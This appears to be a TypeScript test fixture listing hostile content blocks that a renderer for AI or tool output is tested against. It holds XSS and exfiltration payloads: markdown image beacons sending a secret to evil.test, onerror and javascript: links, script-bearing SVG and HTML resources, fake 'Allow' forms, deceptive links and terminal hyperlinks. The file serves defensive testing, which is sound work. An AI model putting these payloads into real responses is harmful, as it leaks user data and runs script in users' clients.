import type { ContentBlock } from "../../src/protocol/types.js";

const text = (text: string): ContentBlock => ({ type: "text", text });

/** Content that wants a request sent, a script run or the page's own controls faked. */
export const ATTACKS: Readonly<Record<string, ContentBlock>> = {
  "image beacon": text("![x](https://evil.test/p?q=SECRET)"),
  "image by reference": text("![x][r]\n\n[r]: https://evil.test/?q=S"),
  "image in a link": text("[![x](https://evil.test/i)](https://evil.test/l)"),
  "video poster": text("<video poster=https://evil.test/x>"),
  "img tag": text("<img src=https://evil.test/x srcset='https://evil.test/y 2x' onerror=alert(1)>"),
  "style with url": text('<div style="background:url(https://evil.test/c)">x</div>'),
  "link tag": text('<link rel=stylesheet href="https://evil.test/s.css"><base href="https://evil.test">'),
  "script link": text("[a](java\tscript:alert(1)) [b](JAVASCRIPT:alert(1)) <javascript:alert(1)>"),
  "data link": text("[a](data:text/html,<script>alert(1)</script>)"),
  "lying label": text("[https://github.com](https://evil.test) https://github.com@evil.test"),
  "relative addresses": text("[a](//evil.test) [b](/api/logout) ![c](logo.png) ![d](//evil.test/i.png)"),
  "form and button": text("<form action=https://evil.test><button>Allow</button><input autofocus></form>"),
  iframe: text("<iframe src=https://evil.test></iframe><object data=https://evil.test></object>"),
  "language with classes": text("```js&#x20;btn-allow\nx\n```"),
  footnotes: text("a[^1]\n\n[^1]: note"),
  diagram: text('```mermaid\nflowchart LR\n A@{ img: "https://evil.test/x" }\n```'),
  "terminal link": text("```\n\u001b]8;;https://evil.test\u0007click\u001b]8;;\u0007\n```"),
  "svg image": { type: "image", mimeType: "image/svg+xml", data: "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" },
  "svg as png": { type: "image", mimeType: "image/png", data: "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" },
  "image by address": { type: "image", mimeType: "image/png", data: "", uri: "https://evil.test/x" },
  "html as audio": { type: "audio", mimeType: "text/html", data: "AAAA" },
  "html resource": {
    type: "resource",
    resource: { uri: "ui://x", mimeType: "text/html", text: "<script>parent.x=1</script>" },
  },
  "script resource link": { type: "resource_link", name: "a", uri: "javascript:alert(1)" },
  "app resource link": { type: "resource_link", name: "README", uri: "vscode://ms/x?y" },
  "lone surrogate": { type: "resource_link", name: "a\ud800", uri: "https://x.example/\ud800" },
};
